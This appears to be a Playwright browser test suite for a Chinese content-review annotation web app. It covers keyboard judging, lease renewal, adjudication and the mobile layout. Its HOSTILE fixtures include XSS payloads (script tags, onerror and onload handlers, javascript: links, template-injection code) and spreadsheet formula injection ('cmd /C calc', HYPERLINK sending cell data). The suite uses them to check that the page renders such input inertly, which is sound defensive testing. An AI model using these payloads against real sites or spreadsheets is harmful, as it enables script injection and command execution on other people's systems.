"""The review page in a real browser, worked by keyboard over the real server."""

import time
from pathlib import Path
from typing import Any

import pytest

from pipeline.store.output import Output
from tests.review_browser import CHROMIUM, Text, browser, draw, serving, sitting, store_of

__all__ = ["browser"]

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: apt-get install chromium")

HARMLESS = "今天天气很好，大家一起去公园散步。"
LONG = "".join(f"第{number}段：{HARMLESS * 3}\n" for number in range(120))
FAMILY, FLAG, THUMB = "👩‍👩‍👧‍👦", "🇨🇳", "👍🏽"


def _account(output: Output, name: str, *roles: str) -> str:
    with store_of(output) as store:
        return store.add_person(name, roles, "主管")


def _readings(output: Output) -> list[dict[str, Any]]:
    with store_of(output) as store:
        rows: list[dict[str, Any]] = store.readings().to_pylist()
        return rows


HOSTILE = [
    Text(
        "</textarea></script><script>window.hacked=1</script><img src=x onerror='window.hacked=2'>"
        '<svg onload=window.hacked=3><a href="javascript:window.hacked=4">百家乐</a>',
        found=[("<script>window.hacked=1</script>", "A3-e"), ("百家乐", "A1-h")],
    ),
    Text(
        "{{constructor.constructor('window.hacked=5')()}} ${window.hacked=6} <iframe srcdoc=\"<script>top.hacked=7"
        '</script>"></iframe> &lt;b&gt; &#x202e;',
        "code",
    ),
    Text('=HYPERLINK("http://x/?"&A1,"点击")\n+cmd|\' /C calc\'!A0\n@SUM(1)', found=[("=HYPERLINK", "A1-h")]),
    Text("付款到\u202e678 账户\u202c确认 \u2066内\u2069 a\u200bb \u200fאבג \ufeff末", found=[("678 账户", "A1-h")]),
    Text("".join(map(chr, range(32))) + "\x7f\x80\x85\x9f末尾\r\n行\r行\u2028行\u2029", "other"),
    Text(r'{"a": "\ud800 \udc00 \u202e", "b": "\u0000"}', "code", found=[(r"\ud800", "A1-g")]),
    Text(
        f"前{FAMILY}后{THUMB}𠮷野家e\u0301{FLAG}联系13800138000谢谢𝒜𝒷尾",
        found=[
            (FAMILY, "A1-f"),
            ("𠮷野", "A2-d"),
            ("家e\u0301", "A2-d"),
            ("13800138000", None),
            ("00138000谢谢𝒜", "A4-e"),
        ],
    ),
    Text(
        "重叠的命中一二三四五六七八九十",
        found=[("一二三四五", "A1-a"), ("三四五六七", "A1-b"), ("四", "A1-c"), ("一二三四五六七八九十", "A1-d")],
    ),
    Text("  两个空格\t制表\n\n\n空行之后    末尾空格  \n", "code"),
    Text("甲" + "字" * 999_000 + "终", found=[("甲", "A1-a"), ("终", "A1-h")]),
    Text("\u202e\u0301" * 2_000 + "e" + "\u0301" * 5_000 + "完", "other", found=[("完", "A1-a")]),
]


def test_hostile_texts_stay_texts_and_marks_cover_exactly_what_was_found(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", HOSTILE)
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        person.log_in("甲", secret)
        for number, shown in enumerate(HOSTILE, 1):
            person.phase("judging")
            assert person.item == number
            assert person.text == shown.text
            assert person.page.locator("#text mark").count() == 0  # blind until it is decided
            assert person.page.locator("#text :not(div):not(span)").count() == 0
            person.decide("1")
            assert person.text == shown.text
            for index, finding in enumerate(shown.findings):
                assert person.marked(index) == shown.text[finding["start"] : finding["end"]]
            person.must_be_clean()
            person.press("Enter")
        person.phase("finished")
    assert [row["content_hash"] for row in _log(output, "decided")] == [_hash(text) for text in HOSTILE]


def _hash(text: Text) -> str:
    import hashlib

    return hashlib.sha256(text.text.encode()).hexdigest()


def _log(output: Output, event: str) -> list[dict[str, Any]]:
    with store_of(output) as store:
        return [row for row in store.log() if row["event"] == event]


def test_hidden_characters_are_labelled_and_reorder_nothing(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text("甲乙\u202e丙丁\u202c戊 x\u200by \x00\x1b zero", "zh")])
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        person.log_in("甲", secret)
        person.phase("judging")
        labels = person.page.evaluate(
            "[...document.querySelectorAll('#text .unseen')].map((one) => getComputedStyle(one, '::before').content)"
        )
        assert labels == ['"RLO"', '"PDF"', '"ZWSP"', '"NUL ESC"']
        places = person.page.evaluate(
            """() => {
              const walker = document.createTreeWalker(document.getElementById('text'), NodeFilter.SHOW_TEXT);
              const found = {};
              while (walker.nextNode()) {
                [...walker.currentNode.data].forEach((character, at) => {
                  const range = document.createRange();
                  range.setStart(walker.currentNode, at);
                  range.setEnd(walker.currentNode, at + 1);
                  found[character] = range.getBoundingClientRect().left;
                });
              }
              return ['甲', '乙', '丙', '丁', '戊'].map((character) => found[character]);
            }"""
        )
        assert places == sorted(places) and len(set(places)) == 5
        # what no file can hold, yet a page must bear: halves of a pair
        code = person.page.evaluate(
            """async () => {
              const { Reader } = await import('/static/reader.js');
              const pane = document.createElement('div');
              document.body.append(pane);
              new Reader(pane).show('a\\ud800b\\udc00', 'zh');
              const codes = [0, 1, 2, 3].map((at) => pane.textContent.charCodeAt(at));
              return [codes, [...pane.querySelectorAll('.unseen')].map((one) => one.dataset.label)];
            }"""
        )
        assert code == [[0x61, 0xD800, 0x62, 0xDC00], ["U+D800", "U+DC00"]]
        person.must_be_clean()


def test_an_answer_is_given_by_keyboard_alone_and_the_machine_is_shown_after_it(browser: Any, tmp_path: Path) -> None:
    bad = Text(f"{HARMLESS}某平台百家乐开户，联系13800138000", found=[("百家乐开户", "A1-h"), ("13800138000", None)])
    output, _ = draw(tmp_path / "out", [bad, Text(HARMLESS), Text(HARMLESS + "三"), Text(HARMLESS + "四")])
    secret = _account(output, "甲", "annotator")
    answers: list[str] = []
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        page.on("response", lambda answer: answers.append(answer.url))
        person.log_in("甲", secret)
        person.phase("judging")
        person.press("Enter")  # nothing is chosen yet
        assert page.inner_text("#confirm-text") == "请先判定"

        person.press("2")
        page.keyboard.type("色情")
        person.press("Enter")
        page.keyboard.type("1H")
        assert page.locator(".option.active").get_attribute("data-risk") == "A1-h"
        assert "赌博" in page.inner_text("#risk-rule")
        person.press("Enter", "Enter")  # takes it; done
        person.press("g", "s", "s", "n")
        page.keyboard.type("末尾有赌博广告\t=1+1")
        person.press("Shift+Enter")
        page.keyboard.type("<b>第二行</b> 123")
        person.press("Enter")
        assert page.evaluate("document.activeElement.id") == "text"
        assert not any("/api/item/" in url for url in answers)
        person.press("Enter")
        person.phase("shown")
        assert [person.marked(index) for index in (0, 1)] == ["百家乐开户", "13800138000"]
        assert page.locator("#machine-list button").count() == 2
        person.press("f", "f")
        assert page.locator("mark.here").inner_text() == "13800138000"
        person.press("h")
        assert page.evaluate("getComputedStyle(document.querySelector('mark')).backgroundColor") == "rgba(0, 0, 0, 0)"

        person.press("u")  # the answer comes back to be changed
        person.phase("judging")
        assert person.item == 1 and page.locator("#risks li").count() == 2
        assert page.input_value("#note") == "末尾有赌博广告 =1+1\n<b>第二行</b> 123"
        assert page.locator("#text mark").count() == 0
        person.press("s")
        person.decide()
        person.press("Enter")
        person.phase("judging")
        person.until("document.getElementById('read-bar').value", 1)
        person.decide("1")
        person.press("Enter")
        person.phase("judging")
        assert person.item == 3

        person.press("3", "j", "j")  # looks back while an answer is begun
        person.until("document.getElementById('item-no').textContent", "第 1 条")
        person.phase("looking")
        assert person.text == bad.text and page.locator("#text mark").count() == 2
        assert page.locator("[data-verdict][aria-checked=true]").get_attribute("data-verdict") == "unqualified"
        person.press("1", "Escape")
        person.phase("judging")
        assert person.item == 3
        assert page.locator("[data-verdict][aria-checked=true]").get_attribute("data-verdict") == "unclear"
        person.press("o")
        page.keyboard.type("2")
        person.press("Enter")
        person.phase("looking")
        assert person.item == 2
        person.press("Enter", "o")
        page.keyboard.type("4")  # not decided by me: not shown
        person.press("Enter")
        page.wait_for_selector(".banner-error")
        person.phase("judging")
        assert person.item == 3
        person.press("?")
        assert page.locator("#help[open]").count() == 1
        person.press("Escape", "Enter")
        person.phase("shown")
        person.must_be_clean()
    rows = {row["item_no"]: row for row in _readings(output)}
    assert (rows[1]["verdict"], rows[1]["risks"], rows[1]["personal"]) == (
        "unqualified",
        ["A1-f", "A1-h"],
        ["general", "sensitive"],
    )
    assert rows[1]["note"] == "末尾有赌博广告 =1+1\n<b>第二行</b> 123"
    assert [rows[number]["verdict"] for number in (2, 3)] == ["qualified", "unclear"]
    assert rows[2]["read_share"] == 1 and rows[2]["seconds"] >= 0
    assert _log(output, "decided")[1]["after_findings"] is True


def test_the_share_of_a_long_text_is_what_was_on_the_screen(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(LONG + str(number)) for number in range(3)])
    secret = _account(output, "甲", "annotator")
    hide = "Object.defineProperty(document, 'visibilityState', {configurable: true, get: () => 'hidden'})"
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("甲", secret)
        person.phase("judging")
        person.until("document.getElementById('read-bar').value > 0.02")
        person.decide("1")
        person.press("Enter")
        person.phase("judging")
        _read_to_the_end(page)
        person.decide("1")
        person.press("Enter")
        person.phase("judging")
        page.evaluate(hide)  # another window covers it
        page.evaluate("document.getElementById('text').scrollTop = 1e6")
        page.wait_for_timeout(900)
        person.decide("1")
    first, second, third = (row for row in _readings(output))
    assert 0.02 <= first["read_share"] < 0.2
    assert second["read_share"] > 0.98
    assert third["read_share"] < 0.2 and third["seconds"] < 0.9


def _read_to_the_end(page: Any) -> None:
    for key in ("PageDown", "PageUp", "PageDown"):  # a busy machine misses a screen now and then: then back once more
        for _ in range(100):
            page.wait_for_timeout(450)  # what is on the screen for less does not count
            before = page.evaluate("document.getElementById('text').scrollTop")
            page.keyboard.press(key)
            if page.evaluate("document.getElementById('text').scrollTop") == before:
                break
        page.wait_for_timeout(1100)  # until the bar is drawn
        if page.evaluate("document.getElementById('read-bar').value") > 0.98:
            return
    raise AssertionError("the text has no end")


def test_what_was_begun_survives_a_reload_a_dead_server_and_a_new_login(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS + LONG), Text(HARMLESS)])
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("甲", secret)
        person.phase("judging")
        person.press("PageDown", "PageDown", "2")
        page.keyboard.type("色情")
        person.press("Enter", "Enter", "b", "n")
        page.keyboard.type("写到一半")
        place = page.evaluate("document.getElementById('text').scrollTop")
        page.reload()
        person.phase("judging")
        assert page.input_value("#note") == "写到一半" and page.locator("#risks li").count() == 1
        assert page.locator("[data-personal=biometric]").is_checked()
        assert abs(page.evaluate("document.getElementById('text').scrollTop") - place) < 400

        server.stop(kill=True)
        person.press("Enter")
        page.wait_for_selector(".banner-error button")
        assert page.input_value("#note") == "写到一半"
        with serving(output.folder, server.port):
            person.press("Enter")
            person.phase("shown")
            with store_of(output) as store:  # the session ends meanwhile
                new = store.renew_secret("甲", "主管")
            person.press("Enter")
            page.wait_for_url("**/login?next=**")
            person.log_in("甲", new)
            person.phase("judging")
            assert person.item == 2
            person.must_be_clean()
    assert [(row["item_no"], row["note"], row["personal"]) for row in _readings(output)] == [
        (1, "写到一半", ["biometric"])
    ]


def test_a_lease_is_renewed_while_somebody_works_and_left_alone_otherwise(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS)])
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        page.clock.install()
        renewals: list[str] = []
        page.on("request", lambda request: renewals.append(request.url) if "/api/renew" in request.url else None)
        person.log_in("甲", secret)
        person.phase("judging")
        page.clock.fast_forward("07:00")
        assert not renewals  # less than half of the quarter of an hour has gone
        person.press("g")
        with page.expect_response("**/api/renew") as answer:
            page.clock.fast_forward("01:00")
        assert answer.value.status == 200 and len(renewals) == 1
        page.clock.fast_forward("12:00")  # nobody there
        page.clock.fast_forward("12:00")
        assert len(renewals) == 1
        person.phase("judging")
        person.must_be_clean()


def test_an_answer_lost_on_the_way_neither_decides_nor_takes_back_twice(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS, found=[("公园", "A1-h")]), Text(HARMLESS + "二")])
    secret = _account(output, "甲", "annotator")
    lost = []

    def lose(route: Any) -> None:
        if lost:
            route.continue_()
            return
        lost.append(route.fetch().status)  # the server has it
        route.abort()  # the page never hears of it

    with serving(output.folder) as server, sitting(browser, server.url) as person:
        person.log_in("甲", secret)
        person.phase("judging")
        person.page.route("**/api/decide", lose)
        person.press("1", "Enter")
        person.page.wait_for_selector(".banner-error button")
        person.page.click(".banner-error button")
        person.phase("shown")
        assert person.marked(0) == "公园"
        person.press("Enter")
        person.phase("judging")
        assert person.item == 2
        person.must_be_clean()
        person.press("1", "Enter")
        person.phase("shown")
        lost.clear()
        person.page.route("**/api/undo", lose)
        person.press("u")  # taken back once, though nobody hears of it
        person.page.wait_for_selector(".banner-error")
        person.phase("shown")
        person.press("Enter")
        person.phase("judging")
        assert person.item == 2
        person.must_be_clean()
    assert lost == [200] and [row["item_no"] for row in _readings(output)] == [1]


def test_two_who_differ_go_to_a_third_who_does_not_learn_who_they_are(browser: Any, tmp_path: Path) -> None:
    found = [("公园", "A3-b")]
    output, _ = draw(tmp_path / "out", [Text(HARMLESS, second=True, found=found), Text(HARMLESS + "二", second=True)])
    secrets = {
        name: _account(output, name, role)
        for name, role in {"甲某": "annotator", "乙某": "second", "丙某": "adjudicator", "丁某": "auditor"}.items()
    }
    with serving(output.folder) as server:
        for name in ("甲某", "乙某"):
            with sitting(browser, server.url) as person:
                person.log_in(name, secrets[name])
                for _ in range(2):
                    person.phase("judging")
                    assert person.page.locator(".earlier").count() == 0
                    if name == "乙某" and person.item == 1:
                        person.press("2")
                        person.page.keyboard.type("商业道德")
                        person.press("Enter", "Enter")
                        person.decide()
                    else:
                        person.decide("1")
                    person.press("Enter")
                person.phase("finished")
                person.must_be_clean()
        with sitting(browser, server.url) as person:
            person.log_in("丙某", secrets["丙某"])
            person.phase("judging")
            assert sorted(person.page.locator(".earlier .verdict").all_inner_texts()) == ["不合格", "合格"]
            assert person.page.locator(".earlier .letter").all_inner_texts() == ["A", "B"]
            content = person.page.content()
            assert "甲某" not in content and "乙某" not in content
            assert person.page.locator("#text mark").count() == 0
            person.decide("3")
            assert person.marked(0) == "公园"
            person.press("Enter")
            person.phase("finished")
            person.must_be_clean()
        with sitting(browser, server.url) as person:  # the auditor sees who said what, and that is on record
            person.log_in("丁某", secrets["丁某"])
            person.page.wait_for_selector(".ask input")
            person.page.fill(".ask input", "1")
            person.page.press(".ask input", "Enter")
            person.page.wait_for_selector("#looked[open]")
            assert person.text == HARMLESS and person.marked(0) == "公园"
            assert {text.split(" · ")[0] for text in person.page.locator(".earlier .by").all_inner_texts()} == {
                "甲某",
                "乙某",
                "丙某",
            }
            person.must_be_clean()
    with store_of(output) as store:
        finals = {row["item_no"]: row for row in store.finals().to_pylist()}
    assert (finals[1]["verdict"], finals[1]["how"]) == ("unclear", "adjudicated")
    assert (finals[2]["verdict"], finals[2]["how"]) == ("qualified", "agreed")
    assert [row["person"] for row in _log(output, "looked")] == ["丁某"]


def test_a_lost_lease_is_told_and_nothing_typed_is_lost(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS), Text(HARMLESS + "二")])
    secret = _account(output, "甲", "annotator")
    _account(output, "乙", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        person.log_in("甲", secret)
        person.phase("judging")
        person.press("3", "n")
        person.page.keyboard.type("读不懂")
        person.press("Enter")
        with store_of(output, clock=lambda: time.time() + 3600) as later:  # an hour on, the other one comes
            taken = later.lease("乙", "first")
            assert taken is not None and taken.item_no == 1
        person.press("Enter")
        person.phase("lost")
        assert "不在您名下" in person.page.inner_text(".banner-warning")
        assert person.page.input_value("#note") == "读不懂"
        person.press("Enter")
        person.phase("judging")
        assert person.item == 2 and person.page.input_value("#note") == ""
        person.must_be_clean()
    assert _readings(output) == []


def test_a_picker_and_a_page_can_be_used_without_seeing_and_in_english(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text("def f():\n\treturn 1\n" * 5, "code")])
    secret = _account(output, "甲", "annotator", "lead")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("甲", secret)
        page.click(".language")
        person.phase("judging")
        assert page.get_by_role("radio", name="Not qualified").count() == 1
        assert "monospace" in page.evaluate("getComputedStyle(document.getElementById('text')).fontFamily")
        assert page.evaluate("getComputedStyle(document.querySelector('.chunk')).whiteSpaceCollapse") == "preserve"
        person.press("2")
        box = page.get_by_role("combobox")
        assert box.evaluate("(node) => node === document.activeElement")
        page.keyboard.type("gender")
        assert box.get_attribute("aria-activedescendant") == "risk-A2-e"
        assert page.get_by_role("option", name="A2-e Discrimination by gender").count() == 1
        person.press("Enter")
        assert page.get_by_role("option", name="A2-e Discrimination by gender").get_attribute("aria-selected") == "true"
        person.until("document.getElementById('spoken').textContent", "A2-e chosen")
        person.press("ArrowUp")
        assert box.get_attribute("aria-activedescendant") == "risk-A5-b"
        person.press("Escape")
        outline = page.evaluate("(() => { document.querySelector('[data-verdict]').focus(); return 1; })()")
        assert outline == 1
        person.press("Shift+Tab", "Tab")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
        person.must_be_clean()


def test_leads_keep_accounts_and_others_see_neither_people_nor_figures(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS), Text(HARMLESS + "二", found=[("二", "A1-h")])])
    lead, other = _account(output, "主管", "lead"), _account(output, "甲", "annotator")
    with serving(output.folder) as server:
        with sitting(browser, server.url) as person:
            person.log_in("甲", other)
            assert person.decide("1") == 1
            person.page.goto(f"{server.url}/people")
            assert "无法打开此页" in person.page.inner_text("h1")
            person.page.goto(f"{server.url}/dashboard")
            person.page.wait_for_selector(".tile")
            assert "合格率" not in person.page.inner_text("main") and "我的进度" in person.page.inner_text("main")
            person.page.goto(f"{server.url}/mine")
            person.page.click("#mine a")
            person.phase("looking")
            person.must_be_clean()
        with sitting(browser, server.url) as person:
            page = person.page
            person.log_in("主管", lead)
            page.wait_for_selector(".chart")
            assert "96 % 门槛" in page.text_content(".chart")
            page.goto(f"{server.url}/people")
            page.fill("#new-name", "<img src=x onerror=window.hacked=1>")
            page.press("#new-name", "Enter")
            page.wait_for_selector("#secret[open]")
            assert len(page.inner_text("#secret-value")) > 20
            page.click("#secret-close")
            assert page.locator("#people tr").count() == 3 and page.locator("#people img").count() == 0
            page.once("dialog", lambda dialog: dialog.accept())
            person.must_be_clean()


def test_risks_are_found_by_their_written_rules_and_places_are_counted_from_one(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text("假发票到处都有", found=[("假发票", "A3-e")])])
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("甲", secret)
        person.phase("judging")
        person.press("2")
        page.keyboard.type("非法集资")  # in the rule of A3-e alone, not in its name
        assert page.locator("#risk-list .option").evaluate_all("(found) => found.map((one) => one.dataset.risk)") == [
            "A3-e"
        ]
        assert "非法集资" in page.inner_text(".option .found-in")
        page.fill("#risk-search", "色情")  # names come before rules that mention it
        assert page.locator(".option.active .wording").inner_text().count("色情")
        page.fill("#risk-search", "非法集资")
        person.press("Enter", "Enter")
        person.decide()
        assert "第 1–3 字符" in page.inner_text("#machine-list")
        assert person.marked(0) == "假发票"
        person.must_be_clean()
    assert [row["risks"] for row in _readings(output)] == [["A3-e"]]


def test_a_refused_undo_is_told_and_the_work_goes_on(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS), Text(HARMLESS + "二"), Text(HARMLESS + "三")])
    secret = _account(output, "甲", "annotator")
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("甲", secret)
        person.phase("judging")
        person.press("3", "u")  # nothing of mine is decided yet
        page.wait_for_selector(".banner-error")
        assert "没有可撤销的判读" in page.inner_text(".banner-error")
        person.phase("judging")
        assert page.locator("[data-verdict=unclear]").get_attribute("aria-checked") == "true"  # what was begun stays
        person.decide()
        assert page.locator(".banner-error:visible").count() == 0
        person.press("Enter")
        person.phase("judging")
        assert "已判 1 / 3，其中我 1" in page.inner_text("#progress-text")
        person.press("u")
        page.wait_for_selector(".banner-done")
        person.phase("judging")
        assert person.item == 1 and "已判 0 / 3，其中我 0" in page.inner_text("#progress-text")
        person.must_be_clean()


def test_an_export_is_offered_to_those_who_may_do_the_reading(browser: Any, tmp_path: Path) -> None:
    output, _ = draw(tmp_path / "out", [Text(HARMLESS)])
    lead = _account(output, "主管", "lead")
    for name, role in (("甲", "annotator"), ("乙", "second")):
        _account(output, name, role)
    with serving(output.folder) as server, sitting(browser, server.url) as person:
        page = person.page
        person.log_in("主管", lead)
        page.wait_for_selector(".export")
        people = "[...document.querySelectorAll('.export [name=person] option')].map((one) => one.value)"
        for reading, able in (("first", ["甲"]), ("second", ["乙"]), ("adjudication", [])):
            page.select_option(".export [name=reading]", reading)
            assert page.evaluate(people) == able
            assert page.locator(".export button").is_disabled() == (not able)
        assert page.locator("[data-nobody]").is_visible()
        person.must_be_clean()


@pytest.mark.parametrize("language", ["zh", "en"])
def test_every_page_fits_a_phone(browser: Any, tmp_path: Path, language: str) -> None:
    output, _ = draw(tmp_path / "out", [Text(LONG, second=True, found=[("公园", "A3-e")]), Text(HARMLESS)])
    secrets = {name: _account(output, name, role) for name, role in (("甲", "annotator"), ("主管", "lead"))}
    fits = "document.documentElement.scrollWidth <= innerWidth && document.querySelector('.top').scrollHeight <= document.querySelector('.top').clientHeight"
    with serving(output.folder) as server:
        for name, paths in (("甲", ("mine", "dashboard", "people")), ("主管", ("people", "dashboard"))):
            with sitting(browser, server.url, viewport={"width": 390, "height": 844}) as person:
                page = person.page
                page.goto(f"{server.url}/login?lang={language}")
                assert page.evaluate(fits)
                person.log_in(name, secrets[name])
                if name == "甲":
                    person.phase("judging")
                    person.press("2", "Escape")
                    inside = "[...document.querySelectorAll('.choice, #confirm, #item-no, #read-share')].every((one) => one.getBoundingClientRect().right <= innerWidth)"
                    assert page.evaluate(fits) and page.evaluate(inside)
                    person.press("1")
                    person.decide()
                    assert page.evaluate(fits)
                for path in paths:
                    page.goto(f"{server.url}/{path}")
                    page.wait_for_selector("main tr, main .tile, main .card")
                    assert page.evaluate(fits), path
                person.must_be_clean()
